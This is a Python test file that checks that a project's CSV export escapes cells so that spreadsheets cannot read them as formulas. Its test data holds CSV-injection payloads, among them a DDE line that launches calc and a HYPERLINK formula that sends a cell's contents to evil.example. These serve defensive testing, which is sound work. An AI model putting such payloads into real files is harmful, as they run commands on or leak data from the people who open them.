"""CSV: written in one place, and no cell of a stranger's making is a formula in any spreadsheet."""

from __future__ import annotations

import ast
import csv
import io
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

import appliance
from appliance.admin.csvtext import FORMULA_SIGNS, csv_lines

HOME = Path(appliance.__file__).parent
SIGNS = tuple(sign for sign in FORMULA_SIGNS if sign.strip())
WRITERS = {"writer", "DictWriter", "to_csv"}
FORMULAS = (
    "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1,1)", "\t=1", "\r=1", "\n=1", "\r\n+1", "\0=1",
    "\uff1d1", '=HYPERLINK("http://evil.example?x="&A1,"Asha")', "Asha;=1+1", "Asha; =1+1", "a\t-1",
    "a\n=1", "a\r\n@x", 'a;"=1+1', ';""=1',
)  # fmt: skip
LETTERS = st.text("=+-@\t\r\n;, '\"\0a1\uff1d\uff0b")


def test_csv_is_written_in_one_place() -> None:
    writing = set()
    for file in HOME.rglob("*.py"):
        text = file.read_text("utf-8")
        if "csv" not in text:
            continue
        calls = (node.func for node in ast.walk(ast.parse(text)) if isinstance(node, ast.Call))
        if any(isinstance(func, ast.Attribute) and func.attr in WRITERS for func in calls):
            writing.add(str(file.relative_to(HOME)))
    assert writing == {"admin/csvtext.py"}


def cells_of(line: bytes, delimiter: str) -> list[str]:
    """As a spreadsheet that parts cells by ``delimiter`` and knows of quotes, or of none, has them."""
    text = line.decode()
    known = [
        c for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter) for c in row
    ]
    plain = csv.reader(text.splitlines(), delimiter=delimiter, quoting=csv.QUOTE_NONE)
    return known + [cell for row in plain for cell in row]


def is_formula(cell: str) -> bool:
    return cell.lstrip(" \t\r\n").startswith(SIGNS) and not cell.strip() == "-1.5"


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_is_words(text: str) -> None:
    line = csv_lines([["Asha", text, 12, -1.5]])
    for delimiter in ",;\t":
        assert [cell for cell in cells_of(line, delimiter) if is_formula(cell)] == []


@given(st.lists(LETTERS, min_size=1, max_size=3))
def test_no_words_make_a_formula(texts: list[str]) -> None:
    line = csv_lines([texts])
    for delimiter in ";\t":
        assert [cell for cell in cells_of(line, delimiter) if is_formula(cell)] == []
    (row,) = csv.reader(io.StringIO(line.decode(), newline=""))
    assert not any(cell.startswith(FORMULA_SIGNS) for cell in row)


def test_numbers_stay_numbers() -> None:
    assert csv_lines([[12, -1.5, None, True, "x"]]) == b"12,-1.5,,yes,x\r\n"
